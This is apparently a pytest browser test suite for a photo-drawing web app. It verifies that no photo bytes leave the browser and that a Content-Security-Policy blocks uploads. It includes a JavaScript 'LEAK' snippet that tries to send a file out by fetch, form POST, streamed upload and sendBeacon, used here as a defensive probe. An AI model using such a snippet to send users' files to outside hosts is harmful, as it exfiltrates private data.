"""No photo leaves the browser: the wire is read, and the page itself forbids it."""

from __future__ import annotations

import pytest
from tests.web import browser

pytestmark = pytest.mark.skipif(bool(browser.missing()), reason=browser.missing() or "-")

#: Sends a file as a page that were not ours to trust might: as it is, in a form, by a beacon.
LEAK = """async (to) => {
    const bytes = new Uint8Array(9000).fill(77);
    const file = new File([bytes], 'one.png');
    const form = new FormData();
    form.append('file', file);
    const tries = [() => fetch(to, { method: 'POST', body: file, mode: 'no-cors' }),
                   () => fetch(to, { method: 'POST', body: form, mode: 'no-cors' }),
                   () => fetch(to, { method: 'POST', body: new Blob([bytes]).stream(),
                                     duplex: 'half', mode: 'cors' }),
                   () => navigator.sendBeacon?.(to, file)];
    for (const attempt of tries) { try { await attempt(); } catch {} }
}"""
SENT = b"\x4d" * 4000


def test_nothing_of_a_photo_goes_over_the_wire(chromium, pack, photo, tmp_path):
    """Read as bytes: what a browser tells of its requests leaves out the bodies of files."""
    file = tmp_path / "one.png"
    file.write_bytes(photo)
    with (
        browser.server("--style", str(pack)) as address,
        browser.wiretap(address) as (tapped, heard),
    ):
        page = browser.open_page(chromium, tapped)
        page.wait_for_selector("#example[data-state=drawn]")
        browser.drop(page, [file])
        browser.drawn(page)
        page.select_option(browser.BACKGROUND, "transparent")
        page.wait_for_selector(".face[data-count='2']")
        with page.expect_download():
            page.click(".face button:text('Save')")
        assert heard.count(b"GET ") >= 8
        assert b"POST " not in heard
        assert b"PUT " not in heard
        middle = photo[len(photo) // 2 :][:64]
        assert middle not in heard
        assert len(heard) < 3000 * heard.count(b"GET ")
        # And it would have been heard: to its own server a page can send.
        page.evaluate(LEAK, "./nowhere")
        assert heard.count(b"POST ") >= 2
        assert SENT in heard


def test_a_host_that_sends_no_headers_enforces_it_too(chromium, pack, tmp_path):
    """Neither the page nor its worker can send a file to anybody, on the first visit already."""
    with (
        browser.static_site(tmp_path / "site", pack) as host,
        browser.recorder() as (other, heard),
    ):
        page = browser.open_page(chromium, host.address)
        page.wait_for_selector("#example[data-state=drawn]")
        assert not page.evaluate("navigator.serviceWorker.controller")
        page.evaluate(LEAK, other)
        drawing(page).evaluate(LEAK, other)
        assert bytes(heard) == b""
        # Once the service worker passes everything on, it says so as well.
        page.evaluate("navigator.serviceWorker.ready.then(() => 1)")
        page.reload()
        page.wait_for_selector("#example[data-state=drawn]")
        page.evaluate(LEAK, other)
        drawing(page).evaluate(LEAK, other)
        assert bytes(heard) == b""
        assert page.evaluate("crossOriginIsolated")


def drawing(page):
    """The worker that draws; the threads under it are asleep and answer nothing."""
    (worker,) = [one for one in page.workers if one.url.startswith("blob:")]
    return worker


def test_page_and_server_have_one_policy():
    from toonmark.web import assets, headers

    page = assets.built_files()["index.html"].read_text()
    framing = "; frame-ancestors 'none'"  # which only a header can say
    assert headers.POLICY.endswith(framing)
    policy = headers.POLICY.removesuffix(framing)
    assert f'http-equiv="Content-Security-Policy" content="{policy}"' in page
    assert page.index("http-equiv") < page.index("<script")
